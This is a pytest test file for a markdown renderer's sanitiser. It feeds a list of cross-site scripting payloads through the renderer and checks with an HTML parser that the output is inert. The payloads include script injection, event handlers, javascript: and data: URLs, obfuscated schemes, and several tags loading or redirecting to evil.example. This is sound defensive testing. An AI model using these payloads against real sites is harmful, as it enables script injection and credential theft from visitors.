"""What delegates write is shown as written and never runs: a corpus of hostile input goes
through the same path a post does, and what comes out is checked with an HTML parser."""

import pytest
from bs4 import BeautifulSoup

from planner.markup import plain_text, render_markdown, sanitise

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "**bold <b onmouseover=alert(1)>x</b>**",
    "<<script>script>alert(1)<</script>/script>",
    "<p>unclosed <em>markup <strong>everywhere",
    "<!-- <script>alert(1)</script> -->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>",
    "<https://ok.example/?q=<script>>",
    "\u202egnp.exe",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "[x](\u0000javascript:alert(1))",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<object data=evil.swf></object><embed src=evil.swf>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "x" * 20000 + "<script>alert(1)</script>",
    "[" * 3000 + "](" * 3000,
    "*" * 5000,
    "> " * 2000 + "deep",
]

ALLOWED_TAGS = {"p", "br", "strong", "em", "code", "a", "ul", "ol", "li", "blockquote"}


def problems(html: str) -> list[str]:
    """Anything in ``html`` that could run, load or mislead."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name not in ALLOWED_TAGS:
            found.append(f"tag {tag.name}")
        for attribute, value in tag.attrs.items():
            if attribute.lower().startswith("on") or attribute.lower() in {"style", "src", "srcdoc", "action"}:
                found.append(f"attribute {attribute}")
            if attribute == "href" and not value.startswith(("http://", "https://", "mailto:")):
                found.append(f"href {value}")
        if tag.name == "a" and tag.get("rel") != ["nofollow", "ugc", "noopener"]:
            found.append(f"rel {tag.get('rel')}")
    if "\u202e" in html:
        found.append("bidi override")
    return found


@pytest.mark.parametrize("payload", XSS_CORPUS, ids=range(len(XSS_CORPUS)))
def test_hostile_input_comes_out_inert(payload):
    html = render_markdown(payload)
    assert problems(html) == []


@pytest.mark.parametrize("payload", XSS_CORPUS, ids=range(len(XSS_CORPUS)))
def test_sanitising_twice_changes_nothing(payload):
    once = render_markdown(payload)
    assert sanitise(once) == once


def test_the_markdown_subset_renders_what_delegates_expect():
    html = render_markdown(
        "We **halved** waiting times, *not* by magic.\n"
        "See https://www.gov.uk/guidance and [our report](https://example.org/report).\n\n"
        "- one\n- two\n\n> quoted from the session\n\nUse `NHS number` as the key."
    )
    page = BeautifulSoup(html, "html.parser")
    assert page.strong.get_text() == "halved" and page.em.get_text() == "not"
    assert [a["href"] for a in page.find_all("a")] == ["https://www.gov.uk/guidance", "https://example.org/report"]
    assert all(a["rel"] == ["nofollow", "ugc", "noopener"] for a in page.find_all("a"))
    assert [li.get_text() for li in page.find_all("li")] == ["one", "two"]
    assert page.blockquote.get_text(strip=True) == "quoted from the session"
    assert page.code.get_text() == "NHS number"


def test_text_that_looks_like_markup_is_shown_as_text():
    html = render_markdown("Use <b> tags & keep 3 < 4")
    assert BeautifulSoup(html, "html.parser").get_text(strip=True) == "Use <b> tags & keep 3 < 4"
    assert plain_text(html) == "Use <b> tags & keep 3 < 4"
